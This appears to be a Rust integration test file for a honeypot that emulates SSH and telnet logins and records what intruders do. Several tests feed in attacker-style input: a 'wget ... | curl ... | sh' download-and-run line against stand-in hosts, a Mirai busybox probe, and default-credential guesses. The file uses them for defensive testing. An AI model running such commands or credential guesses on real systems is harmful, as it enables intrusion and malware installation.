//! The ssh and telnet emulators against real clients: OpenSSH's `ssh` (with `sshpass`),
//! `ssh-keygen`, Python's `telnetlib`, and raw sockets, all on loopback.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use chaff_sensor::recorder::MemoryLog;
use serde_json::Value;

mod support;
use support::{connect, kinds, run_command as run, wait_for};

const DECKY: &str = "decky-07";

/// The plugin's environment for `prefix` (`SSH`/`TELNET`), plus `extra`.
fn env<'a>(prefix: &str, extra: &[(&'a str, &'a str)]) -> Vec<(String, String)> {
    let mut vars: Vec<(String, String)> = vec![
        ("NODE_NAME".into(), DECKY.into()),
        (format!("{prefix}_DISTRO"), "debian".into()),
        (format!("{prefix}_ROOT_PASSWORD"), "toor".into()),
        (format!("{prefix}_USER"), "deploy".into()),
        (format!("{prefix}_USER_PASSWORD"), "s3cret".into()),
    ];
    for (name, value) in extra {
        vars.retain(|(n, _)| n != name);
        vars.push((name.to_string(), value.to_string()));
    }
    vars
}

fn serve(slug: &str, port: u16, vars: &[(String, String)]) -> (SocketAddr, MemoryLog) {
    let pairs: Vec<(&str, &str)> = vars.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    support::serve(slug, port, &pairs)
}

fn serve_ssh(extra: &[(&str, &str)]) -> (SocketAddr, MemoryLog) {
    serve("ssh", 22, &env("SSH", extra))
}

fn serve_telnet(extra: &[(&str, &str)]) -> (SocketAddr, MemoryLog) {
    serve("telnet", 23, &env("TELNET", extra))
}

/// `ssh [options] user@addr [command]` with no host key checks, no config files, no agent.
fn ssh(addr: SocketAddr, user: &str, options: &[&str], command: &[&str]) -> Command {
    let mut ssh = Command::new("ssh");
    ssh.args(["-F", "/dev/null", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null"])
        .args(["-o", "LogLevel=ERROR", "-o", "ConnectTimeout=10", "-p", &addr.port().to_string()])
        .env_remove("SSH_AUTH_SOCK")
        .args(options)
        .arg(format!("{user}@{}", addr.ip()))
        .args(command);
    ssh
}

/// `sshpass -p password ssh ...`, offering the password only.
fn ssh_with_password(
    addr: SocketAddr,
    user: &str,
    password: &str,
    options: &[&str],
    command: &[&str],
) -> Command {
    let password_only = ["-o", "PubkeyAuthentication=no", "-o", "PreferredAuthentications=password"];
    let ssh = ssh(addr, user, &[&password_only, options].concat(), command);
    let mut sshpass = Command::new("sshpass");
    sshpass.args(["-p", password]).arg(ssh.get_program()).args(ssh.get_args()).env_remove("SSH_AUTH_SOCK");
    sshpass
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn of_kind<'a>(events: &'a [Value], kind: &str) -> Vec<&'a Value> {
    events.iter().filter(|e| e["kind"] == kind).collect()
}

/// A fresh directory under the system's temporary directory.
fn scratch_dir(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("chaff-shell-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// An Ed25519 key pair made by `ssh-keygen` at `dir/name`; the fingerprint as
/// `ssh-keygen -lf` prints it.
fn keygen(dir: &Path, name: &str) -> (PathBuf, String) {
    let key = dir.join(name);
    let made = run(
        Command::new("ssh-keygen").args(["-q", "-t", "ed25519", "-N", "", "-C", name, "-f"]).arg(&key),
        b"",
        Duration::from_secs(20),
    );
    assert!(made.status.success(), "ssh-keygen: {}", text(&made.stderr));
    let listed = run(Command::new("ssh-keygen").arg("-lf").arg(&key), b"", Duration::from_secs(20));
    let line = text(&listed.stdout);
    // `256 SHA256:... comment (ED25519)`
    let fingerprint =
        line.split_whitespace().nth(1).unwrap_or_else(|| panic!("ssh-keygen -lf: {line}")).to_owned();
    assert!(fingerprint.starts_with("SHA256:"), "{line}");
    (key, fingerprint)
}

#[test]
fn ssh_wrong_password_is_recorded_and_refused() {
    let (addr, log) = serve_ssh(&[]);
    let out = run(
        &mut ssh_with_password(addr, "admin", "Winter2024!", &[], &["true"]),
        b"",
        Duration::from_secs(30),
    );
    // sshpass exits 5 when the password prompt comes back: the server refused it.
    assert_eq!(out.status.code(), Some(5), "stderr: {}", text(&out.stderr));

    let events = wait_for(&log, "auth", |e| e.iter().any(|e| e["kind"] == "auth"));
    let auth = of_kind(&events, "auth");
    assert_eq!(auth[0]["username"], "admin");
    assert_eq!(auth[0]["password"], "Winter2024!");
    assert_eq!(auth[0]["method"], "password");
    assert_eq!(auth[0]["success"], false);
    assert!(of_kind(&events, "session").is_empty() && of_kind(&events, "command").is_empty());
    let events = wait_for(&log, "disconnect", |e| kinds(e).contains(&"disconnect"));
    assert_eq!(of_kind(&events, "auth").len(), 1, "one attempt, then sshpass gives up: {events:#?}");
}

#[test]
fn ssh_user_password_runs_an_exec_command() {
    let (addr, log) = serve_ssh(&[]);
    let out = run(
        &mut ssh_with_password(addr, "deploy", "s3cret", &[], &["uname -a; id; nosuchtool"]),
        b"",
        Duration::from_secs(30),
    );
    let stdout = text(&out.stdout);
    assert_eq!(
        stdout,
        "Linux decky-07 6.1.0-18-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1 (2024-02-01) x86_64 GNU/Linux\n\
         uid=1000(deploy) gid=1000(deploy) groups=1000(deploy),24(cdrom),25(floppy),27(sudo),29(audio),30(dip),44(video),46(plugdev),100(users),106(netdev)\n"
    );
    assert_eq!(text(&out.stderr), "bash: line 1: nosuchtool: command not found\n");
    assert_eq!(out.status.code(), Some(127));

    let events = wait_for(&log, "disconnect", |e| kinds(e).contains(&"disconnect"));
    let auth = of_kind(&events, "auth");
    assert_eq!(auth.len(), 1, "{events:#?}");
    assert_eq!(
        (auth[0]["username"].as_str(), auth[0]["password"].as_str()),
        (Some("deploy"), Some("s3cret"))
    );
    assert_eq!(auth[0]["success"], true);
    let session = of_kind(&events, "session");
    assert_eq!(
        (session[0]["username"].as_str(), session[0]["mode"].as_str()),
        (Some("deploy"), Some("exec"))
    );
    let commands = of_kind(&events, "command");
    assert_eq!(commands.len(), 1);
    assert_eq!(commands[0]["command"], "uname -a; id; nosuchtool");
    assert_eq!(commands[0]["username"], "deploy");
    let connect = events.iter().find(|e| e["kind"] == "connect").unwrap();
    assert_eq!(commands[0]["conn"], connect["conn"]);
    assert_eq!(events.last().unwrap()["reason"], "eof");
}

#[test]
fn ssh_root_password_and_download_attempts() {
    let (addr, log) = serve_ssh(&[]);
    let line = "cd /tmp; wget -q http://198.51.100.23/x86; curl -fsSL http://dl.example/i.sh | sh; echo done";
    let out = run(&mut ssh_with_password(addr, "root", "toor", &[], &[line]), b"", Duration::from_secs(30));
    assert_eq!(text(&out.stdout), "done\n", "stderr: {}", text(&out.stderr));

    let events = wait_for(&log, "disconnect", |e| kinds(e).contains(&"disconnect"));
    assert_eq!(of_kind(&events, "auth")[0]["username"], "root");
    assert_eq!(of_kind(&events, "command")[0]["command"], line);
    let urls: Vec<(&str, &str)> = of_kind(&events, "download")
        .iter()
        .map(|e| (e["tool"].as_str().unwrap(), e["url"].as_str().unwrap()))
        .collect();
    assert_eq!(urls, [("wget", "http://198.51.100.23/x86"), ("curl", "http://dl.example/i.sh")]);
}

#[test]
fn ssh_public_key_attempt_reports_the_fingerprint() {
    let dir = scratch_dir("pubkey");
    let (key, fingerprint) = keygen(&dir, "intruder");
    let (addr, log) = serve_ssh(&[]);
    let key = key.to_string_lossy().into_owned();
    let options = [
        "-i",
        key.as_str(),
        "-o",
        "IdentitiesOnly=yes",
        "-o",
        "BatchMode=yes",
        "-o",
        "PasswordAuthentication=no",
    ];
    let out = run(&mut ssh(addr, "root", &options, &["true"]), b"", Duration::from_secs(30));
    assert_eq!(out.status.code(), Some(255));
    assert!(text(&out.stderr).contains("Permission denied (publickey,password)"), "{}", text(&out.stderr));

    let events = wait_for(&log, "auth", |e| e.iter().any(|e| e["kind"] == "auth"));
    let auth = of_kind(&events, "auth");
    assert_eq!(auth[0]["username"], "root");
    assert_eq!(auth[0]["method"], "publickey");
    assert_eq!(auth[0]["key_type"], "ssh-ed25519");
    assert_eq!(auth[0]["key_fingerprint"], fingerprint.as_str());
    assert_eq!(auth[0]["success"], false);
    std::fs::remove_dir_all(dir).unwrap();
}

#[test]
fn ssh_disconnects_at_the_sixth_failure() {
    let dir = scratch_dir("maxtries");
    let keys: Vec<(PathBuf, String)> = (0..8).map(|i| keygen(&dir, &format!("k{i}"))).collect();
    let (addr, log) = serve_ssh(&[]);
    let mut options: Vec<String> = Vec::new();
    for (key, _) in &keys {
        options.extend(["-i".into(), key.to_string_lossy().into_owned()]);
    }
    options.extend(["-o", "IdentitiesOnly=yes", "-o", "BatchMode=yes"].map(String::from));
    let options: Vec<&str> = options.iter().map(String::as_str).collect();
    let out = run(&mut ssh(addr, "root", &options, &["true"]), b"", Duration::from_secs(30));
    assert_eq!(out.status.code(), Some(255));
    assert!(text(&out.stderr).contains("Too many authentication failures"), "{}", text(&out.stderr));

    let events = wait_for(&log, "disconnect", |e| kinds(e).contains(&"disconnect"));
    let offered: Vec<&str> =
        of_kind(&events, "auth").iter().map(|e| e["key_fingerprint"].as_str().unwrap()).collect();
    let expected: Vec<&str> = keys[..6].iter().map(|(_, f)| f.as_str()).collect();
    assert_eq!(offered, expected);
    assert_eq!(events.last().unwrap()["reason"], "closed");
    std::fs::remove_dir_all(dir).unwrap();
}

#[test]
fn ssh_interactive_shell_over_a_pty() {
    let (addr, log) = serve_ssh(&[]);
    // `-tt` forces a pty although stdin is a pipe; the shell echoes, prompts and runs what is
    // typed, line by line, until `exit`.
    let mut command = ssh_with_password(addr, "deploy", "s3cret", &["-tt"], &[]);
    let out = run(&mut command, b"whoami\nsu -\ntoor\nid -u\nexit\nexit\n", Duration::from_secs(30));
    let screen = text(&out.stdout);
    assert!(screen.contains("Linux decky-07 6.1.0-18-amd64"), "{screen}");
    assert!(screen.contains("deploy@decky-07:~$ whoami\r\ndeploy\r\n"), "{screen}");
    assert!(screen.contains("Password: \r\nroot@decky-07:~# id -u\r\n0\r\n"), "{screen}");
    assert!(screen.contains("logout\r\n"), "{screen}");

    let events = wait_for(&log, "disconnect", |e| kinds(e).contains(&"disconnect"));
    let session = of_kind(&events, "session");
    assert_eq!((session[0]["mode"].as_str(), session[0]["term"].is_string()), (Some("shell"), true));
    let commands: Vec<(&str, &str)> = of_kind(&events, "command")
        .iter()
        .map(|e| (e["username"].as_str().unwrap(), e["command"].as_str().unwrap()))
        .collect();
    assert_eq!(
        commands,
        [("deploy", "whoami"), ("deploy", "su -"), ("root", "id -u"), ("root", "exit"), ("deploy", "exit")]
    );
    let su = of_kind(&events, "auth").into_iter().find(|e| e["method"] == "su").unwrap();
    assert_eq!(
        (su["username"].as_str(), su["password"].as_str(), su["success"].as_bool()),
        (Some("root"), Some("toor"), Some(true))
    );
    assert_eq!(events.last().unwrap()["reason"], "closed");
}

#[test]
fn ssh_shell_without_a_pty_reads_commands_from_stdin() {
    let (addr, log) = serve_ssh(&[]);
    let out = run(
        &mut ssh_with_password(addr, "root", "toor", &["-T"], &[]),
        b"hostname\ncat /etc/hostname\n",
        Duration::from_secs(30),
    );
    assert_eq!(text(&out.stdout), "decky-07\ndecky-07\n");
    let events = wait_for(&log, "disconnect", |e| kinds(e).contains(&"disconnect"));
    let commands: Vec<&str> =
        of_kind(&events, "command").iter().map(|e| e["command"].as_str().unwrap()).collect();
    assert_eq!(commands, ["hostname", "cat /etc/hostname"]);
    assert_eq!(of_kind(&events, "session")[0]["mode"], "shell");
}

/// A russh client that trusts any host key.
struct AnyHostKey;

impl russh::client::Handler for AnyHostKey {
    type Error = russh::Error;

    async fn check_server_key(
        &mut self,
        _key: &russh::keys::PublicKeyOrCertificate,
    ) -> Result<bool, Self::Error> {
        Ok(true)
    }
}

#[test]
fn ssh_keyboard_interactive_is_recorded() {
    // OpenSSH only tries methods the server lists, and the emulator lists what OpenSSH does
    // by default (publickey, password); scanners try keyboard-interactive anyway. russh's
    // client does here.
    use russh::client::{self, KeyboardInteractiveAuthResponse as Reply};
    let (addr, log) = serve_ssh(&[]);
    let answered = support::runtime().block_on(async move {
        let config = std::sync::Arc::new(client::Config::default());
        let mut session = client::connect(config, addr, AnyHostKey).await.unwrap();
        let reply = session.authenticate_keyboard_interactive_start("oracle", None).await.unwrap();
        let Reply::InfoRequest { prompts, .. } = reply else { panic!("no prompt: {reply:?}") };
        assert_eq!((prompts.len(), prompts[0].prompt.as_str(), prompts[0].echo), (1, "Password: ", false));
        let wrong = session.authenticate_keyboard_interactive_respond(vec!["letmein".into()]).await.unwrap();
        assert!(matches!(wrong, Reply::Failure { .. }), "{wrong:?}");
        session.authenticate_keyboard_interactive_start("deploy", None).await.unwrap();
        session.authenticate_keyboard_interactive_respond(vec!["s3cret".into()]).await.unwrap()
    });
    assert!(matches!(answered, Reply::Success), "{answered:?}");
    let events = wait_for(&log, "two attempts", |e| of_kind(e, "auth").len() == 2);
    let attempts: Vec<(&str, &str, &str, bool)> = of_kind(&events, "auth")
        .iter()
        .map(|e| {
            (
                e["username"].as_str().unwrap(),
                e["password"].as_str().unwrap(),
                e["method"].as_str().unwrap(),
                e["success"].as_bool().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        attempts,
        [
            ("oracle", "letmein", "keyboard-interactive", false),
            ("deploy", "s3cret", "keyboard-interactive", true)
        ]
    );
}

#[test]
fn ssh_forwarding_is_recorded_and_refused() {
    let (addr, log) = serve_ssh(&[]);
    // `-W` asks the server to open a connection (direct-tcpip) and relay stdin/stdout to it.
    // The emulator never connects anywhere: it records the target and refuses.
    let out = run(
        &mut ssh_with_password(addr, "root", "toor", &["-W", "192.0.2.80:25"], &[]),
        b"",
        Duration::from_secs(30),
    );
    assert_ne!(out.status.code(), Some(0));
    assert!(text(&out.stderr).contains("stdio forwarding failed"), "{}", text(&out.stderr));
    let events = wait_for(&log, "forward", |e| e.iter().any(|e| e["kind"] == "forward"));
    let forward = of_kind(&events, "forward");
    assert_eq!(forward[0]["username"], "root");
    assert_eq!(forward[0]["direction"], "local");
    assert_eq!((forward[0]["host"].as_str(), forward[0]["port"].as_u64()), (Some("192.0.2.80"), Some(25)));
}

#[test]
fn ssh_serves_on_the_sensors_single_threaded_runtime() {
    // The sensor runs one current-thread runtime (src/main.rs); russh spawns each session
    // on it.
    use chaff_sensor::emulators::Emulator;
    use chaff_sensor::{Env, Port, Recorder, Transport};
    let vars = env("SSH", &[]);
    let env = Env::from_pairs(vars.iter().map(|(k, v)| (k.as_str(), v.as_str())));
    let emulator = Emulator::for_port("ssh", Port { number: 22, transport: Transport::Tcp }, &env).unwrap();
    let limits = emulator.limits();
    let (recorder, log) = Recorder::memory(DECKY, "ssh");
    let listener = std::net::TcpListener::bind(support::loopback()).unwrap();
    let addr = listener.local_addr().unwrap();
    listener.set_nonblocking(true).unwrap();
    std::thread::spawn(move || {
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        runtime.block_on(async move {
            let listener = tokio::net::TcpListener::from_std(listener).unwrap();
            let emulator = std::sync::Arc::new(emulator);
            chaff_sensor::listener::serve_tcp(listener, emulator, limits, std::sync::Arc::new(recorder))
                .await;
        });
    });
    let out =
        run(&mut ssh_with_password(addr, "root", "toor", &[], &["whoami"]), b"", Duration::from_secs(30));
    assert_eq!(text(&out.stdout), "root\n", "{}", text(&out.stderr));
    let events = wait_for(&log, "disconnect", |e| kinds(e).contains(&"disconnect"));
    assert_eq!(of_kind(&events, "command")[0]["command"], "whoami");
}

#[test]
fn ssh_identification_follows_the_distro() {
    for (distro, expected) in [
        ("debian", "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n"),
        ("ubuntu22", "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.10\r\n"),
        ("rocky9", "SSH-2.0-OpenSSH_8.7\r\n"),
    ] {
        let (addr, _log) = serve_ssh(&[("SSH_DISTRO", distro)]);
        let mut stream = connect(addr);
        let mut banner = vec![0u8; expected.len()];
        stream.read_exact(&mut banner).unwrap();
        assert_eq!(text(&banner), expected);
    }
}

#[test]
fn ssh_scanner_leaving_after_the_banner_is_an_eof() {
    let (addr, log) = serve_ssh(&[]);
    let mut stream = connect(addr);
    // Read the whole line, as nmap does: closing with unread data would be a reset.
    let mut banner = vec![0u8; "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n".len()];
    stream.read_exact(&mut banner).unwrap();
    stream.shutdown(std::net::Shutdown::Write).unwrap();
    drop(stream);
    let events = wait_for(&log, "disconnect", |e| kinds(e).contains(&"disconnect"));
    assert_eq!(kinds(&events), ["listening", "connect", "disconnect"]);
    assert_eq!(events[2]["reason"], "eof");
}

#[test]
fn ssh_configuration_reaches_the_shell() {
    let capture = scratch_dir("capture");
    let capture_dir = capture.to_string_lossy().into_owned();
    let (addr, log) = serve_ssh(&[
        ("SSH_DISTRO", "rocky9"),
        ("SSH_HOSTNAME", "build07.localdomain"),
        ("SSH_USER", "ci"),
        ("SSH_USER_PASSWORD", "Pipeline#1"),
        ("SSH_ROOT_PASSWORD", "r00t!"),
        ("SSH_CAPTURE_DIR", capture_dir.as_str()),
    ]);
    // The defaults no longer open anything; the configured pairs do.
    let refused =
        run(&mut ssh_with_password(addr, "deploy", "s3cret", &[], &["true"]), b"", Duration::from_secs(30));
    assert_eq!(refused.status.code(), Some(5));
    let out = run(
        &mut ssh_with_password(addr, "ci", "Pipeline#1", &[], &["hostname; whoami; uname -r"]),
        b"",
        Duration::from_secs(30),
    );
    assert_eq!(text(&out.stdout), "build07.localdomain\nci\n5.14.0-362.24.1.el9_3.0.1.x86_64\n");
    let out =
        run(&mut ssh_with_password(addr, "root", "r00t!", &[], &["id -u"]), b"", Duration::from_secs(30));
    assert_eq!(text(&out.stdout), "0\n");

    let events =
        wait_for(&log, "three connections", |e| kinds(e).iter().filter(|k| **k == "disconnect").count() == 3);
    assert_eq!(of_kind(&events, "session").len(), 2);
    let transcripts: Vec<&str> =
        of_kind(&events, "session").iter().map(|e| e["transcript"].as_str().unwrap()).collect();
    let first = std::fs::read_to_string(transcripts[0]).unwrap();
    assert!(first.contains("hostname; whoami; uname -r\nbuild07.localdomain\nci\n"), "{first}");
    assert!(Path::new(transcripts[1]).starts_with(&capture));
    assert!(events.iter().all(|e| e["decky"] == DECKY));
    std::fs::remove_dir_all(capture).unwrap();
}

#[test]
fn ssh_without_a_capture_directory_still_serves() {
    let (addr, log) = serve_ssh(&[("SSH_CAPTURE_DIR", "/nonexistent/chaff/capture")]);
    let out =
        run(&mut ssh_with_password(addr, "root", "toor", &[], &["echo ok"]), b"", Duration::from_secs(30));
    assert_eq!(text(&out.stdout), "ok\n");
    let events = wait_for(&log, "disconnect", |e| kinds(e).contains(&"disconnect"));
    assert!(of_kind(&events, "session")[0].get("transcript").is_none());
}

/// A raw telnet client.
struct RawTelnet {
    stream: TcpStream,
    seen: Vec<u8>,
}

impl RawTelnet {
    fn connect(addr: SocketAddr) -> RawTelnet {
        let stream = TcpStream::connect(addr).unwrap();
        stream.set_read_timeout(Some(Duration::from_millis(200))).unwrap();
        RawTelnet { stream, seen: Vec::new() }
    }

    /// Reads more; false once the server has closed.
    fn read_more(&mut self) -> bool {
        let mut buf = [0u8; 4096];
        match self.stream.read(&mut buf) {
            Ok(0) => false,
            Ok(n) => {
                self.seen.extend_from_slice(&buf[..n]);
                true
            }
            Err(e) if matches!(e.kind(), std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut) => {
                true
            }
            Err(_) => false,
        }
    }

    /// Everything received up to and including `marker` (fails after 15 s).
    fn until(&mut self, marker: &str) -> Vec<u8> {
        let deadline = Instant::now() + Duration::from_secs(15);
        loop {
            if let Some(at) = self.seen.windows(marker.len()).position(|w| w == marker.as_bytes()) {
                let rest = self.seen.split_off(at + marker.len());
                return std::mem::replace(&mut self.seen, rest);
            }
            assert!(Instant::now() < deadline, "no {marker:?} in {:?}", text(&self.seen));
            assert!(self.read_more(), "closed before {marker:?}: {:?}", text(&self.seen));
        }
    }

    fn until_text(&mut self, marker: &str) -> String {
        text(&self.until(marker))
    }

    fn send(&mut self, bytes: &[u8]) {
        self.stream.write_all(bytes).unwrap();
    }

    /// Everything the server sends until it closes (fails after 20 s).
    fn rest(&mut self) -> String {
        let deadline = Instant::now() + Duration::from_secs(20);
        while self.read_more() {
            assert!(Instant::now() < deadline, "still open: {:?}", text(&self.seen));
        }
        text(&std::mem::take(&mut self.seen))
    }
}

#[test]
fn telnet_negotiates_like_busybox_and_refuses_three_times() {
    let (addr, log) = serve_telnet(&[]);
    let mut client = RawTelnet::connect(addr);
    let greeting = client.until("login: ");
    assert_eq!(greeting, b"\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03\r\r\ndecky-07 login: ");
    // The client's own negotiation (WONT ECHO, WILL NAWS + size, DO SGA) is swallowed.
    client.send(b"\xff\xfc\x01\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0\xff\xfd\x03");
    for (i, (user, password)) in
        [("admin", "admin"), ("root", "12345"), ("support", "support")].into_iter().enumerate()
    {
        client.send(format!("{user}\r\n").as_bytes());
        let echoed = client.until_text("Password: ");
        let prompt = if i == 0 { "" } else { "decky-07 login: " };
        assert_eq!(echoed, format!("{prompt}{user}\r\nPassword: "));
        client.send(format!("{password}\r\0").as_bytes());
        let answer = client.until_text("Login incorrect\r\n");
        assert_eq!(answer, "\r\n\r\nLogin incorrect\r\n", "the password is not echoed");
    }
    let rest = client.rest();
    assert_eq!(rest, "", "closed after the third failure");

    let events = wait_for(&log, "disconnect", |e| kinds(e).contains(&"disconnect"));
    let attempts: Vec<(&str, &str, bool)> = of_kind(&events, "auth")
        .iter()
        .map(|e| {
            (
                e["username"].as_str().unwrap(),
                e["password"].as_str().unwrap(),
                e["success"].as_bool().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        attempts,
        [("admin", "admin", false), ("root", "12345", false), ("support", "support", false)]
    );
    assert_eq!(events.last().unwrap()["reason"], "closed");
}

/// Python's telnetlib, the client many scanners are built on: logs in with `user` and
/// `password`, runs `commands`, returns everything it read.
fn telnetlib(addr: SocketAddr, user: &str, password: &str, commands: &[&str]) -> String {
    let script = format!(
        r#"
import sys, warnings
warnings.simplefilter("ignore")
import telnetlib
t = telnetlib.Telnet("127.0.0.1", {port}, timeout=20)
out = t.read_until(b"login: ", 20)
t.write({user:?}.encode() + b"\n")
out += t.read_until(b"Password: ", 20)
t.write({password:?}.encode() + b"\n")
for command in {commands:?}:
    out += t.read_until(b"$ ", 20)
    t.write(command.encode() + b"\n")
out += t.read_all()
sys.stdout.buffer.write(out)
"#,
        port = addr.port(),
    );
    let out = run(Command::new("python3").arg("-c").arg(script), b"", Duration::from_secs(60));
    assert!(out.status.success(), "python3: {}", text(&out.stderr));
    text(&out.stdout)
}

#[test]
fn telnet_user_logs_in_and_runs_commands() {
    let (addr, log) = serve_telnet(&[("TELNET_DISTRO", "ubuntu22"), ("TELNET_HOSTNAME", "cam-04")]);
    let screen = telnetlib(addr, "deploy", "s3cret", &["cat /etc/hostname", "uname -srm", "exit"]);
    // telnetlib has removed the option negotiation.
    assert!(screen.starts_with("\r\r\ncam-04 login: deploy\r\nPassword: \r\n"), "{screen:?}");
    assert!(screen.contains("Welcome to Ubuntu 22.04.4 LTS"), "{screen:?}");
    assert!(screen.contains("deploy@cam-04:~$ cat /etc/hostname\r\ncam-04\r\n"), "{screen:?}");
    assert!(screen.contains("uname -srm\r\nLinux 5.15.0-105-generic x86_64\r\n"), "{screen:?}");
    assert!(screen.ends_with("exit\r\nlogout\r\n"), "{screen:?}");

    let events = wait_for(&log, "disconnect", |e| kinds(e).contains(&"disconnect"));
    let auth = of_kind(&events, "auth");
    assert_eq!(
        (auth[0]["username"].as_str(), auth[0]["password"].as_str(), auth[0]["success"].as_bool()),
        (Some("deploy"), Some("s3cret"), Some(true))
    );
    let commands: Vec<&str> =
        of_kind(&events, "command").iter().map(|e| e["command"].as_str().unwrap()).collect();
    assert_eq!(commands, ["cat /etc/hostname", "uname -srm", "exit"]);
    assert_eq!(events.last().unwrap()["reason"], "closed");
}

#[test]
fn telnet_root_password_and_capture_directory_are_configurable() {
    let capture = scratch_dir("telnet-capture");
    let capture_dir = capture.to_string_lossy().into_owned();
    let (addr, log) = serve_telnet(&[
        ("TELNET_ROOT_PASSWORD", "vizxv"),
        ("TELNET_DISTRO", "alpine"),
        ("TELNET_CAPTURE_DIR", capture_dir.as_str()),
    ]);
    let mut client = RawTelnet::connect(addr);
    client.until("login: ");
    client.send(b"root\r\n");
    client.until("Password: ");
    client.send(b"vizxv\r\n");
    let motd = client.until_text("# ");
    assert!(motd.contains("Welcome to Alpine!"), "{motd:?}");
    assert!(motd.ends_with("decky-07:~# "), "{motd:?}");
    client.send(b"/bin/busybox MIRAI\r\n");
    assert_eq!(client.until_text("# "), "/bin/busybox MIRAI\r\nMIRAI: applet not found\r\ndecky-07:~# ");
    client.send(b"exit\r\n");
    assert_eq!(client.rest(), "exit\r\nlogout\r\n");
    let events = wait_for(&log, "disconnect", |e| kinds(e).contains(&"disconnect"));
    assert_eq!(of_kind(&events, "auth")[0]["password"], "vizxv");
    assert_eq!(of_kind(&events, "command")[0]["command"], "/bin/busybox MIRAI");
    let transcript = of_kind(&events, "session")[0]["transcript"].as_str().unwrap().to_owned();
    assert!(Path::new(&transcript).starts_with(&capture), "{transcript}");
    let written = std::fs::read_to_string(&transcript).unwrap();
    assert!(written.contains("decky-07:~# /bin/busybox MIRAI\nMIRAI: applet not found\n"), "{written}");
    std::fs::remove_dir_all(capture).unwrap();
}

/// Serves ssh on 127.0.0.1:2222 and telnet on 127.0.0.1:2323 for ten minutes, to probe by
/// hand (`nmap -sV -Pn -p 2222,2323 127.0.0.1`). Distro from `CHAFF_DISTRO`.
#[test]
#[ignore = "serves for manual probing"]
fn serve_for_manual_probing() {
    use chaff_sensor::Env;
    use chaff_sensor::emulators::Emulator;
    use chaff_sensor::{Port, Recorder, Transport};
    use std::sync::Arc;

    let distro = std::env::var("CHAFF_DISTRO").unwrap_or_else(|_| "debian".into());
    for (slug, catalogue, local) in [("ssh", 22, 2222), ("telnet", 23, 2323)] {
        let prefix = slug.to_uppercase();
        let vars = env(&prefix, &[(&format!("{prefix}_DISTRO"), &distro)]);
        let env = Env::from_pairs(vars.iter().map(|(k, v)| (k.as_str(), v.as_str())));
        let emulator =
            Emulator::for_port(slug, Port { number: catalogue, transport: Transport::Tcp }, &env).unwrap();
        let limits = emulator.limits();
        let recorder = Arc::new(Recorder::stdout(DECKY, slug));
        let listener = std::net::TcpListener::bind(("127.0.0.1", local)).unwrap();
        listener.set_nonblocking(true).unwrap();
        let _guard = support::runtime().enter();
        let listener = tokio::net::TcpListener::from_std(listener).unwrap();
        support::runtime().spawn(chaff_sensor::listener::serve_tcp(
            listener,
            Arc::new(emulator),
            limits,
            recorder,
        ));
    }
    std::thread::sleep(Duration::from_secs(600));
}
